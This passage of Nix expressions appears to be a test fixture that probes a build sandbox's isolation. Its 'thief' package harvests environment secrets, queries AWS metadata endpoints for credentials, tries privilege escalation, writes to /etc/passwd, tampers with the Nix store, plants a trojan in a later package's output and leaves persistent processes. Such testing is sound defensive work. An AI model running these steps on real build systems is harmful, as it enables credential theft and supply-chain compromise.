  # A build that wants the task's secrets, the machine, and what is served. It says what it saw and what it could do.
  thief = package "thief" {
    buildPhase = ''
      attempt() { local what=$1; shift; if "$@" > /dev/null 2>&1; then echo "ATTEMPT $what: DONE"; else echo "ATTEMPT $what: refused"; fi; }
      saw() { od -An -v -tx1 | tr -d ' \n' | fold -w 400 | sed 's/^/SAW-thief /'; echo; }
      ask() { exec 3<> "/dev/tcp/$1/80" && printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$2" "$1" >&3 && timeout 5 cat <&3; exec 3>&-; }

      # Secrets.
      env | saw
      cat /proc/[0-9]*/environ 2> /dev/null | saw || true
      cat /proc/[0-9]*/cmdline 2> /dev/null | saw || true
      cat /root/.* /run/secrets/* /proc/1/cwd/* 2> /dev/null | saw || true
      attempt "the builder's environment" cat /proc/1/environ
      attempt "the builder's memory" head -c 1 /proc/1/mem
      attempt "the builder's open files" ls /proc/1/fd/
      for path in / /v2/metadata /v2/credentials /v2/credentials/ /v3 /v4 /v4/ "''${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI-/unknown}"; do
        ask 169.254.170.2 "$path" 2>&1 | saw || true
      done
      ask 169.254.169.254 /latest/meta-data/iam/security-credentials/ 2>&1 | saw || true

      # The machine.
      attempt "to kill the builder" kill -KILL 1
      attempt "to kill Nix" kill -KILL "$PPID"
      attempt "to trace Nix" head -c 1 "/proc/$PPID/mem"
      attempt "a new user namespace" unshare --user true
      attempt "to become root" setpriv --reuid 0 true
      attempt "to ask for root" su -c true
      attempt "to mount" mount -t tmpfs none /mnt
      cp /bin/bash bash
      attempt "a program with set-user-id" chmod 4755 bash
      for file in /etc/passwd /etc/group /etc/nix/nix.conf /etc/resolv.conf /bin/binplz-builder /bin/nix-store /nix/var/nix/db/db.sqlite /root/.profile; do
        attempt "to write $file" sh -c "echo evil >> $file"
      done
      attempt "to replace the builder" ln -sf /bin/false /bin/binplz-builder
      attempt "a root of the garbage collector" ln -s /etc /nix/var/nix/gcroots/evil
      grep -E '^(NoNewPrivs|CapBnd|CapEff):' /proc/self/status /proc/1/status | tr '\t' ' '

      # The store: what is in it, and what will be.
      for path in /nix/store/*; do
        case $path in "$out"* | *.lock | *.chroot) continue ;; esac
        attempt "to write into the store" sh -c "chmod u+w $path; echo evil >> $path || echo evil > $path/evil"
        attempt "to remove from the store" rm -rf "$path"
        attempt "to rename in the store" mv "$path" "$path.evil"
      done
      for drv in /nix/store/*-victim-1.0.drv; do
        later=$(grep -o '/nix/store/[a-z0-9]*-victim-1\.0"' "$drv" | head -n 1 | tr -d '"')
        mkdir -p "$later/bin"
        printf '#!/bin/sh\necho evil\n' > "$later/bin/victim"
        chmod -R 777 "$later"
        echo "laid an ambush at $later"
      done

      # And later.
      (setsid sleep 98765 < /dev/null > /dev/null 2>&1 &)
      (trap "" TERM HUP; setsid bash -c 'while :; do sleep 98764; done' < /dev/null > /dev/null 2>&1 &)
      sleep 0.2
      { grep -lsz '^9876[45]$' /proc/[0-9]*/cmdline || true; } | wc -l | sed 's/^/LEFT BEHIND /'
      $CC -O1 -o program ${good}
    '';
  };

  # Asks Nix for variables of its choice.
  asker = package "asker" {
    outputHashMode = "flat";
    outputHashAlgo = "sha256";
    outputHash = builtins.hashString "sha256" "asked\n";
    impureEnvVars = [
      "BINPLZ_LEASE_URL"
      "BINPLZ_LEASE_TOKEN"
      "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
      "ECS_CONTAINER_METADATA_URI_V4"
      "AWS_ACCESS_KEY_ID"
      "AWS_SECRET_ACCESS_KEY"
      "AWS_SESSION_TOKEN"
    ];
    buildPhase = ''env | od -An -v -tx1 | tr -d ' \n' | fold -w 400 | sed 's/^/SAW-asker /'; echo'';
    installPhase = ''echo asked > "$out"'';
    fixupPhase = ":";
  };

  # An honest package, built after those two.
  victim = package "victim" {
    buildPhase = ''
      cat ${pkgs.failing.thief}/bin/thief ${pkgs.failing.asker} > /dev/null
      { grep -lsz '^9876[45]$' /proc/[0-9]*/cmdline || true; } | wc -l | sed 's/^/STILL THERE /'
      $CC -O1 -o program ${good}
    '';
  };

